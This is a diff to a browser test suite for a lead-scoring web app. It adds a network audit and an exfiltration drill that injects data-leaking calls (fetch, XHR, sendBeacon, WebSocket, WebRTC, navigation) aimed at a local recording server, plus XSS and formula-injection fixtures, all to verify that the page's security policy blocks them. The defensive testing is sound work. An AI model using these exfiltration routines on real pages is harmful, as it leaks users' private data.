@@ -9,6 +9,8 @@
 // screenshot included, to target/browser/.
 
 import { spawn, execFileSync } from 'node:child_process';
+import { createServer } from 'node:http';
+import { randomBytes } from 'node:crypto';
 import { mkdtempSync, mkdirSync, readFileSync, writeFileSync, rmSync, existsSync, readdirSync, statSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve, dirname } from 'node:path';
@@ -32,6 +34,21 @@ const ONLY_ARG = (process.argv.find((a) => a.startsWith('--only=')) || '').slice
 const ONLY = ONLY_ARG ? new RegExp(ONLY_ARG) : null;
 const XSS_TEXT = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>';
 const FORMULA_TEXT = '=HYPERLINK("http://example.invalid","click me")';
+// A unique string planted in one lead's dialogue: no request, header, body, WebSocket frame or
+// server log line may ever carry it.
+const MARKER = `LLPRIVACY${randomBytes(6).toString('hex')}`;
+// Every file the page, its workers and its service worker may request: GET or HEAD, no query
+// string. An allow-list of files, not of origins; each must exist, so the list cannot go stale.
+const ALLOWED_FILES = [
+  'index.html', 'app.js', 'client.js', 'worker.js', 'sw.js', 'style.css', 'favicon.svg',
+  'crm-demo.html', 'crm-demo.css', 'crm-demo.js', 'widget/lead-ladder.js', 'widget/lead-ladder.css',
+  'models/demo.int8.safetensors', 'samples/demo-leads.csv',
+  'pkg/cpu/leadladder_wasm.js', 'pkg/cpu/leadladder_wasm_bg.wasm',
+  'pkg/gpu/leadladder_wasm.js', 'pkg/gpu/leadladder_wasm_bg.wasm',
+];
+const ALLOWED_PATHS = new Set(['/', ...ALLOWED_FILES.map((f) => `/${f}`)]);
+// The address queries the tests themselves open the page with (a navigation, never a fetch).
+const NAVIGATION_QUERIES = new Set(['', '?device=cpu']);
 
 // ------------------------------------------------------------------ small utilities
 
@@ -157,6 +174,7 @@ function makeFixtures() {
   const dlg = rows[0].indexOf('dialogue');
   rows[3][dlg] = `customer: ${XSS_TEXT}\nrep: noted`;
   rows[5][dlg] = FORMULA_TEXT;
+  rows[7][dlg] = `customer: my reference is ${MARKER}\nrep: noted`;
   f.xssId = rows[3][0];
   f.formulaId = rows[5][0];
   f.leads = join(WORK, 'leads.csv');
@@ -197,11 +215,18 @@ function makeFixtures() {
 
 // ------------------------------------------------------------------ server and browser
 
+/** `leadladder serve` on a free port; `log` collects its request lines (`GET /app.js 200`). */
 async function startServer() {
-  const child = spawn(BIN, ['serve', '--port', '0', '--root', REPO], { stdio: ['ignore', 'pipe', 'pipe'] });
+  const child = spawn(BIN, ['serve', '--port', '0', '--root', REPO, '--log-requests'], { stdio: ['ignore', 'pipe', 'pipe'] });
   let stderr = '';
+  const log = [];
+  let partial = '';
   child.stderr.on('data', (d) => {
     stderr += d;
+    partial += d;
+    const lines = partial.split('\n');
+    partial = lines.pop();
+    log.push(...lines.filter((l) => l.trim()));
   });
   const url = await new Promise((resolveUrl, reject) => {
     let out = '';
@@ -216,7 +241,55 @@ async function startServer() {
     });
     child.on('exit', (code) => reject(new Error(`leadladder serve exited (${code}): ${stderr}`)));
   });
-  return { child, url, origin: new URL(url).origin };
+  return { child, url, origin: new URL(url).origin, log };
+}
+
+/**
+ * A static host that sends no security headers at all (as many do): web/ at `/`, pkg/ at
+ * `/pkg/`. With `stripPolicy`, the pages' `<meta>` policy is removed too.
+ */
+async function startStaticHost({ stripPolicy = false } = {}) {
+  const types = { html: 'text/html; charset=utf-8', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml', wasm: 'application/wasm', csv: 'text/csv' };
+  const server = createServer((req, res) => {
+    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
+    const rel = path === '/' ? 'index.html' : path.slice(1);
+    const file = rel.startsWith('pkg/') ? join(REPO, rel) : join(REPO, 'web', rel);
+    if (rel.includes('..') || !existsSync(file) || !statSync(file).isFile()) {
+      res.writeHead(404);
+      res.end();
+      return;
+    }
+    let body = readFileSync(file);
+    if (stripPolicy && rel.endsWith('.html')) body = body.toString('utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+    res.writeHead(200, { 'Content-Type': types[rel.split('.').pop()] || 'application/octet-stream', 'Cache-Control': 'no-store' });
+    res.end(body);
+  });
+  await new Promise((r) => server.listen(0, '127.0.0.1', r));
+  const url = `http://127.0.0.1:${server.address().port}/`;
+  return { server, url, origin: new URL(url).origin };
+}
+
+/** A foreign origin that records everything that reaches it (HTTP requests and WebSocket upgrades). */
+async function startSink() {
+  const hits = [];
+  const server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => {
+      body += d;
+    });
+    req.on('end', () => {
+      hits.push(`${req.method} ${req.url} ${body}`);
+      res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
+      res.end();
+    });
+  });
+  server.on('upgrade', (req, socket) => {
+    hits.push(`UPGRADE ${req.url}`);
+    socket.destroy();
+  });
+  await new Promise((r) => server.listen(0, '127.0.0.1', r));
+  const origin = `http://127.0.0.1:${server.address().port}`;
+  return { server, origin, hits };
 }
 
 async function launch({ webgpu = true } = {}) {
@@ -240,20 +313,107 @@ async function launch({ webgpu = true } = {}) {
   return { context, profile };
 }
 
-/** Records every request of the context (pages, workers, service worker). */
-function recordRequests(context) {
-  const requests = [];
-  const add = (req) => {
+/**
+ * Records what the browser context sends: every request of its pages, their dedicated workers and
+ * the service worker (Playwright reports service-worker requests too), every WebSocket a page
+ * opens with its frames, and every RTCPeerConnection constructed in any frame (WebRTC reaches the
+ * network without a request and outside the policy's reach, so constructing one is the event).
+ */
+async function recordNetwork(context) {
+  const records = [];
+  await context.exposeBinding('__leadladderAuditRtc', (source, config) => {
+    records.push({ kind: 'WebRTC', method: 'RTCPeerConnection', url: source.frame ? source.frame.url() : '', body: Buffer.from(String(config)), from: 'page' });
+  });
+  await context.addInitScript(() => {
+    for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection']) {
+      const Original = window[name];
+      if (typeof Original !== 'function') continue;
+      window[name] = new Proxy(Original, {
+        construct(target, args, newTarget) {
+          let config = '';
+          try {
+            config = JSON.stringify(args[0] || {});
+          } catch {
+            config = String(args[0]);
+          }
+          window.__leadladderAuditRtc(config);
+          return Reflect.construct(target, args, newTarget);
+        },
+      });
+    }
+  });
+  context.on('request', (req) => {
     let body = null;
     try {
       body = req.postDataBuffer();
     } catch {
       body = null;
     }
-    requests.push({ url: req.url(), method: req.method(), body });
-  };
-  context.on('request', add);
-  return requests;
+    // Playwright attributes a dedicated worker's requests to its page.
+    const from = req.serviceWorker() ? 'service worker' : 'page/worker';
+    records.push({ kind: 'request', method: req.method(), url: req.url(), body, headers: req.headers(), navigation: req.isNavigationRequest(), type: req.resourceType(), from });
+  });
+  const watchPage = (page) =>
+    page.on('websocket', (ws) => {
+      const rec = { kind: 'WebSocket', method: 'CONNECT', url: ws.url(), body: Buffer.alloc(0), from: 'page' };
+      records.push(rec);
+      ws.on('framesent', (frame) => {
+        rec.body = Buffer.concat([rec.body, Buffer.from(frame.payload)]);
+      });
+    });
+  context.pages().forEach(watchPage);
+  context.on('page', watchPage);
+  return records;
+}
+
+/**
+ * The network audit: every recorded request must be a GET or HEAD of an allow-listed file of one
+ * of `origins`, with no query string (navigations may carry the suite's own address queries),
+ * and no URL, header, body or frame may carry MARKER; a WebSocket or WebRTC attempt is a failure
+ * in itself. `serverLogs` are the request lines `leadladder serve` printed (what really reached
+ * it, whichever API sent it). Returns the problems, one line each.
+ */
+function auditNetwork(records, serverLogs, origins) {
+  const problems = [];
+  // The service worker passes the page's navigations on with their URL: the same address query.
+  const navigations = new Set(records.filter((r) => r.navigation).map((r) => r.url));
+  const carries = (rec) => [rec.url, rec.body ? rec.body.toString('latin1') : '', JSON.stringify(rec.headers || {})].some((t) => t.includes(MARKER));
+  for (const rec of records) {
+    const what = `${rec.from}: ${rec.method} ${rec.url}`;
+    if (carries(rec)) problems.push(`${what} carries the CSV marker`);
+    if (rec.kind !== 'request') {
+      problems.push(`${what}: a ${rec.kind} attempt`);
+      continue;
+    }
+    let url;
+    try {
+      url = new URL(rec.url);
+    } catch {
+      problems.push(`${what}: unparsable URL`);
+      continue;
+    }
+    if (url.protocol === 'blob:' || url.protocol === 'data:') {
+      // In-browser objects (the worker's bootstrap module); a blob: URL still names its origin.
+      if (url.protocol === 'blob:' && !origins.includes(new URL(url.pathname).origin)) problems.push(`${what}: a blob of another origin`);
+      continue;
+    }
+    if (!origins.includes(url.origin)) problems.push(`${what}: another origin`);
+    if (rec.method !== 'GET' && rec.method !== 'HEAD') problems.push(`${what}: method ${rec.method}`);
+    if (rec.body && rec.body.length) problems.push(`${what}: a request body of ${rec.body.length} bytes`);
+    if (!ALLOWED_PATHS.has(url.pathname)) problems.push(`${what}: ${url.pathname} is not a file of the page`);
+    const navigation = rec.navigation || (rec.from === 'service worker' && navigations.has(rec.url));
+    if (url.search && !(navigation && NAVIGATION_QUERIES.has(url.search))) problems.push(`${what}: a query string`);
+  }
+  for (const line of serverLogs) {
+    const [method, target = ''] = line.split(' ');
+    const [path, ...query] = target.split('?');
+    const search = query.length ? `?${query.join('?')}` : '';
+    if (line.includes(MARKER)) problems.push(`server saw "${line}": carries the CSV marker`);
+    if (method !== 'GET' && method !== 'HEAD') problems.push(`server saw "${line}": method ${method}`);
+    if (!ALLOWED_PATHS.has(path)) problems.push(`server saw "${line}": ${path} is not a file of the page`);
+    if (search && !(path === '/' && NAVIGATION_QUERIES.has(search))) problems.push(`server saw "${line}": a query string`);
+  }
+  return problems;
 }
 
 async function openPage(context, url, consoleLines) {
@@ -385,6 +545,141 @@ async function checkAudit(page, nativeAudit) {
   return { problems, web };
 }
 
+// ------------------------------------------------------------------ exfiltration drill
+
+/**
+ * Runs exfiltration attempts inside a page, a worker or the service worker (passed to
+ * `evaluate`, so it is self-contained). Each attempt's URL carries its own tag; returns, per
+ * attempt, the policy violations the realm reported while it ran and any error.
+ */
+async function exfiltrate({ attempts, same, foreign, marker }) {
+  const seen = [];
+  globalThis.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective || e.violatedDirective} ${e.blockedURI}`));
+  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+  const out = [];
+  for (const { kind, tag, target } of attempts) {
+    const base = target === 'foreign' ? foreign : same;
+    const ws = base.replace(/^http/, 'ws');
+    const before = seen.length;
+    let error = null;
+    const note = (e) => {
+      error = String(e);
+    };
+    try {
+      if (kind === 'fetch GET with a query') await fetch(`${base}/app.js?${tag}`).catch(note);
+      else if (kind === 'fetch POST with a body') await fetch(`${base}/${tag}`, { method: 'POST', body: marker, mode: 'no-cors' }).catch(note);
+      else if (kind === 'XMLHttpRequest')
+        await new Promise((resolve) => {
+          const x = new XMLHttpRequest();
+          x.onloadend = resolve;
+          x.open('POST', `${base}/${tag}`);
+          x.send(marker);
+        });
+      else if (kind === 'sendBeacon') navigator.sendBeacon(`${base}/${tag}`, marker);
+      else if (kind === 'EventSource') {
+        const es = new EventSource(`${base}/${tag}`);
+        await sleep(300);
+        es.close();
+      } else if (kind === 'WebSocket') {
+        const sock = new WebSocket(`${ws}/${tag}`);
+        sock.onopen = () => sock.send(marker);
+        await sleep(300);
+        sock.close();
+      } else if (kind === 'image') {
+        const img = new Image();
+        img.src = `${base}/${tag}.png`;
+        await sleep(300);
+      } else if (kind === 'dynamic import') await import(`${base}/${tag}.js`).catch(note);
+      else if (kind === 'WebRTC') {
+        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(base).host}` }] });
+        pc.createDataChannel(tag);
+        await pc.setLocalDescription(await pc.createOffer());
+        await sleep(300);
+        pc.close();
+      } else throw new Error(`unknown attempt ${kind}`);
+    } catch (e) {
+      note(e);
+    }
+    await sleep(200);
+    out.push({ kind, tag, target, error, violations: seen.slice(before) });
+  }
+  return out;
+}
+
+/** The page's scoring worker (started from a blob: URL by client.js). */
+async function scoringWorker(page) {
+  for (let i = 0; i < 100; i++) {
+    const w = page.workers().find((x) => x.url().startsWith('blob:'));
+    if (w) return w;
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  throw new Error(`no scoring worker; workers: ${page.workers().map((x) => x.url()).join(', ')}`);
+}
+
+/**
+ * On a page served by `leadladder serve` that has ranked the marked CSV, every kind of
+ * exfiltration is tried from the page, the scoring worker and the service worker, towards a
+ * recording server on another origin and towards the page's own origin. Each attempt must be
+ * blocked by the policy (a violation reported, nothing reached the other origin) or fail the
+ * network audit. Writes target/browser/exfiltration.txt.
+ */
+async function exfiltrationDrill(f, consoleLines) {
+  const server = await startServer();
+  const sink = await startSink();
+  const { context, profile } = await launch();
+  const records = await recordNetwork(context);
+  try {
+    const page = await openPage(context, `${server.url}?device=cpu`, consoleLines);
+    await uploadAndRank(page, f.leads);
+    await page.waitForSelector('body[data-offline="ready"]', { timeout: 60_000 });
+    const sw = context.serviceWorkers().find((w) => w.url().startsWith(server.origin)) || (await context.waitForEvent('serviceworker'));
+    const worker = await scoringWorker(page);
+    const realms = {
+      page: { handle: page, kinds: ['fetch GET with a query', 'fetch POST with a body', 'XMLHttpRequest', 'sendBeacon', 'EventSource', 'WebSocket', 'image', 'dynamic import'] },
+      worker: { handle: worker, kinds: ['fetch GET with a query', 'fetch POST with a body', 'XMLHttpRequest', 'EventSource', 'WebSocket', 'dynamic import'] },
+      'service worker': { handle: sw, kinds: ['fetch GET with a query', 'fetch POST with a body', 'WebSocket'] },
+    };
+    const results = [];
+    let n = 0;
+    for (const [realm, { handle, kinds }] of Object.entries(realms)) {
+      const attempts = kinds.flatMap((kind) => ['foreign', 'same'].map((target) => ({ kind, target, tag: `${MARKER}-x${n++}` })));
+      const got = await handle.evaluate(exfiltrate, { attempts, same: server.origin, foreign: sink.origin, marker: MARKER });
+      results.push(...got.map((a) => ({ realm, ...a })));
+    }
+    const rtc = await page.evaluate(exfiltrate, { attempts: [{ kind: 'WebRTC', target: 'foreign', tag: `${MARKER}-rtc` }], same: server.origin, foreign: sink.origin, marker: MARKER });
+    results.push(...rtc.map((a) => ({ realm: 'page', ...a })));
+    // A top-level navigation: no policy directive can stop it, so only the audit can catch it.
+    const navTag = `${MARKER}-nav`;
+    await page.evaluate((u) => {
+      location.href = u;
+    }, `${sink.origin}/${navTag}`);
+    await page.waitForURL((u) => u.href.includes(navTag), { timeout: 10_000 }).catch(() => undefined);
+    results.push({ realm: 'page', kind: 'top-level navigation', target: 'foreign', tag: navTag, error: null, violations: [] });
+
+    const problems = auditNetwork(records, server.log, [server.origin]);
+    const lines = [];
+    const failures = [];
+    for (const r of results) {
+      const reached = sink.hits.filter((h) => h.includes(r.tag));
+      const caught = problems.filter((p) => p.includes(r.tag) || (r.kind === 'WebRTC' && /WebRTC/.test(p)));
+      let outcome = null;
+      if (r.violations.length && !reached.length) outcome = `blocked by the policy (${r.violations[0]})`;
+      else if (caught.length) outcome = `caught by the audit (${caught[0]})`;
+      lines.push(`${r.realm.padEnd(14)} ${r.kind.padEnd(22)} ${r.target.padEnd(7)} ${outcome || 'NOT CAUGHT'}${reached.length ? ' [reached the other origin]' : ''}`);
+      if (!outcome) failures.push(`${r.realm} ${r.kind} (${r.target}): neither blocked nor caught; error ${r.error}; reached ${reached.length}`);
+      // Towards another origin, the policy alone must stop every API it governs.
+      if (r.target === 'foreign' && r.kind !== 'top-level navigation' && r.kind !== 'WebRTC' && reached.length) failures.push(`${r.realm} ${r.kind}: reached the other origin`);
+    }
+    writeFileSync(join(OUT, 'exfiltration.txt'), lines.join('\n') + '\n');
+    if (failures.length) throw new Error(`exfiltration drill:\n    ${failures.join('\n    ')}`);
+  } finally {
+    await context.close();
+    rmSync(profile, { recursive: true, force: true });
+    server.child.kill();
+    sink.server.close();
+  }
+}
+
 // ------------------------------------------------------------------ the suite
 
 async function suite() {
@@ -395,11 +690,12 @@ async function suite() {
   const server = await startServer();
   log(`server: ${server.url}`);
   const servedOrigins = [server.origin];
+  const servers = [server];
+  const harnessUrls = new Set(); // requests the tests make themselves, exempt from the audit
   const { context, profile } = await launch();
-  const requests = recordRequests(context);
+  const records = await recordNetwork(context);
   const consoleLines = [];
   const results = [];
-  const csvMarker = readFileSync(f.leads, 'utf8').split('\n')[2].slice(0, 40);
 
   async function test(name, fn) {
     if (ONLY && !ONLY.test(name)) {
@@ -593,6 +889,7 @@ async function suite() {
       // A server of its own (its own origin, so its own service worker), stopped after one visit.
       const own = await startServer();
       servedOrigins.push(own.origin);
+      servers.push(own);
       try {
         const warm = await openPage(context, `${own.url}?device=cpu`, consoleLines);
         await uploadAndRank(warm, f.leads);
@@ -604,7 +901,10 @@ async function suite() {
       await new Promise((r) => own.child.exitCode !== null || own.child.signalCode !== null ? r() : own.child.once('exit', r));
       const page = await openPage(context, `${own.url}?device=cpu`, consoleLines);
       // The server is really gone: a file the service worker never kept cannot be fetched.
-      const probe = await page.evaluate(() => fetch(`not-kept-${Date.now()}.txt`).then((r) => `HTTP ${r.status}`, (e) => `failed: ${e.name}`));
+      // (The network audit exempts exactly this URL: the harness's probe, not the page's request.)
+      const probeUrl = `${own.url}not-kept-${Date.now()}.txt`;
+      harnessUrls.add(probeUrl);
+      const probe = await page.evaluate((u) => fetch(u).then((r) => `HTTP ${r.status}`, (e) => `failed: ${e.name}`), probeUrl);
       assert(probe.startsWith('failed'), `the server still answers: ${probe}`);
       await uploadAndRank(page, f.leads);
       const count = await page.evaluate(() => document.body.dataset.ranked);
@@ -612,20 +912,81 @@ async function suite() {
       await page.close();
     });
 
-    await test('network audit: every request stays on the page origin, no CSV in any body', async () => {
-      writeFileSync(join(OUT, 'requests.txt'), requests.map((r) => `${r.method} ${r.url}`).join('\n'));
-      assert(requests.length > 10, `only ${requests.length} requests recorded`);
-      // Every page was loaded from one of the suite's own `leadladder serve` processes (the
-      // offline case starts a second one, on its own origin).
-      const foreign = requests.filter((r) => !servedOrigins.some((o) => r.url.startsWith(`${o}/`)) && !/^(data|blob):/.test(r.url));
-      assert(foreign.length === 0, `requests to other origins: ${foreign.map((r) => r.url).join(', ')}`);
-      const withBody = requests.filter((r) => r.body && r.body.length);
-      assert(withBody.length === 0, `requests with a body: ${withBody.map((r) => `${r.method} ${r.url}`).join(', ')}`);
-      const carriesCsv = requests.filter((r) => r.body && r.body.includes(Buffer.from(csvMarker)));
-      assert(carriesCsv.length === 0, 'a request body carries CSV bytes');
-      assert(requests.some((r) => /\/pkg\/gpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s WebGPU wasm fetch was not recorded');
-      assert(requests.some((r) => /\/pkg\/cpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s CPU wasm fetch was not recorded');
-      assert(requests.some((r) => /\/models\/demo\.int8\.safetensors$/.test(r.url)), 'the model fetch was not recorded');
+    await test('network audit: ranking, explaining, auditing and exporting sends only GETs of page files', async () => {
+      const seen = records.filter((r) => !harnessUrls.has(r.url));
+      const serverLog = servers.flatMap((sv) => sv.log);
+      // The list of what the page asked for while the tests ranked, explained, audited and
+      // exported the marked CSV (target/browser/requests.txt).
+      const lines = new Map();
+      for (const r of seen) {
+        const u = new URL(r.url);
+        const key = `${r.from.padEnd(14)} ${r.method.padEnd(4)} ${u.protocol === 'blob:' ? 'blob: (the worker bootstrap)' : u.pathname + u.search}`;
+        lines.set(key, (lines.get(key) || 0) + 1);
+      }
+      writeFileSync(join(OUT, 'requests.txt'), [...lines].sort().map(([k, n]) => `${k}  ×${n}`).join('\n') + '\n');
+      none(auditNetwork(seen, serverLog, servedOrigins), 'the network audit failed');
+      assert(seen.length > 10 && serverLog.length > 10, `only ${seen.length} requests and ${serverLog.length} server lines recorded`);
+      // The recorder sees each realm: the scoring worker (only it fetches the wasm builds and
+      // GETs the model) and the service worker.
+      assert(seen.some((r) => /\/pkg\/gpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s WebGPU wasm fetch was not recorded');
+      assert(seen.some((r) => /\/pkg\/cpu\/leadladder_wasm_bg\.wasm$/.test(r.url)), 'the worker’s CPU wasm fetch was not recorded');
+      assert(seen.some((r) => r.method === 'GET' && /\/models\/demo\.int8\.safetensors$/.test(r.url)), 'the model download was not recorded');
+      assert(seen.some((r) => r.from === 'service worker'), 'no service-worker request was recorded');
+      assert(serverLog.some((l) => l.startsWith('GET /models/demo.int8.safetensors ')), 'the server log lacks the model download');
+    });
+
+    await test('injected exfiltration from the page, its worker and its service worker is blocked by the policy or fails the audit', async () => {
+      await exfiltrationDrill(f, consoleLines);
+    });
+
+    await test('a host that sends no headers: the scoring worker still runs under the page’s policy', async () => {
+      const host = await startStaticHost();
+      const sink = await startSink();
+      const own = await launch();
+      try {
+        const page = await openPage(own.context, `${host.url}?device=cpu`, consoleLines);
+        const dev = await deviceFields(page);
+        assert(/^enforced/.test(dev['Network policy'] || ''), `device panel: ${JSON.stringify(dev)}`);
+        await uploadAndRank(page, f.leads);
+        const worker = await scoringWorker(page);
+        const attempts = ['fetch GET with a query', 'fetch POST with a body', 'WebSocket', 'EventSource', 'dynamic import'].map((kind, i) => ({ kind, tag: `${MARKER}-static${i}`, target: 'foreign' }));
+        const got = await worker.evaluate(exfiltrate, { attempts, same: host.origin, foreign: sink.origin, marker: MARKER });
+        const unblocked = got.filter((a) => a.violations.length === 0);
+        assert(unblocked.length === 0, `not blocked in the worker: ${unblocked.map((a) => `${a.kind} (${a.error})`).join(', ')}`);
+        assert(sink.hits.length === 0, `the other origin received: ${sink.hits.join(' | ')}`);
+      } finally {
+        await own.context.close();
+        rmSync(own.profile, { recursive: true, force: true });
+        host.server.close();
+        sink.server.close();
+      }
+    });
+
+    await test('no policy at all (meta tag removed, no headers): the engine refuses to start', async () => {
+      const host = await startStaticHost({ stripPolicy: true });
+      const own = await launch();
+      try {
+        const page = await own.context.newPage();
+        await page.goto(`${host.url}?device=cpu`);
+        await page.waitForFunction(() => !document.querySelector('#banner').hidden, null, { timeout: 60_000 });
+        const banner = await bannerText(page);
+        assert(/no Content-Security-Policy is enforced/.test(banner || ''), `banner: ${banner}`);
+        assert(!(await page.evaluate(() => document.body.dataset.engine)), 'the engine started anyway');
+      } finally {
+        await own.context.close();
+        rmSync(own.profile, { recursive: true, force: true });
+        host.server.close();
+      }
+    });
+
+    await test('the wasm builds import no network API', async () => {
+      for (const build of ['cpu', 'gpu']) {
+        const mod = await WebAssembly.compile(readFileSync(join(REPO, 'pkg', build, 'leadladder_wasm_bg.wasm')));
+        const imports = WebAssembly.Module.imports(mod).map((i) => i.name);
+        assert(imports.length > 10, `${build}: only ${imports.length} imports`);
+        const network = imports.filter((n) => /fetch|xmlhttp|websocket|sendbeacon|eventsource|rtc|importscripts|open|location/i.test(n));
+        assert(network.length === 0, `${build} imports ${network.join(', ')}`);
+      }
     });
   } finally {
     await context.close();
